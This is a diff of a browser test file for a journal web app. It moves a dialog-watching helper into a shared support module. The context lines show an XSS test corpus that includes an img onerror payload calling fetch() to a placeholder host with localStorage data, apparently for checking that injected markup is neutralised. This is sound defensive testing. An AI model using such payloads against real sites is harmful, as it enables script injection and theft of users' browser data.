@@ -4,7 +4,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { withApp } from '../support/fixtures.mjs';
-import { assertClean } from '../support/browser.mjs';
+import { assertClean, watchDialogs } from '../support/browser.mjs';
 import { openJournal, makeEntry, rfc3339 } from '../support/journal-page.mjs';
 import { BackupPage, jsonFile } from '../support/backup-page.mjs';
 
@@ -36,15 +36,6 @@ export const XSS_CORPUS = [
   '<img src="x" onerror="fetch(\'http://example.invalid/\'+localStorage.length)">',
   '\u202e<b>reversed</b>',
 ];
-
-function watchDialogs(page) {
-  const dialogs = [];
-  page.on('dialog', (dialog) => {
-    dialogs.push(dialog.message());
-    dialog.dismiss().catch(() => {});
-  });
-  return dialogs;
-}
 
 /** Elements that only markup could have made, anywhere in the app's main area. */
 async function injected(page) {
